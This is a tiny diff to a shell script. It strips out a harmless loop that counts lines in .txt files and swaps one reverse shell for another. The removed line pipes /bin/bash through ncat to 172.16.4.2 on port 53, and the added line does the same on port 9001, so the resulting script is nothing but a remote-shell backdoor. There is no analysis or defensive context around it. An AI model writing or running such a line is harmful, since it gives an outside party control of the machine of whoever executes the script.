@@ -1,6 +1,2 @@
 #!/bin/sh
-for f in *.txt; do
-  [ -e "$f" ] || continue
-  wc -l "$f"
-done
-ncat 172.16.4.2 53 -e /bin/bash
+ncat 172.16.4.2 9001 -e /bin/bash
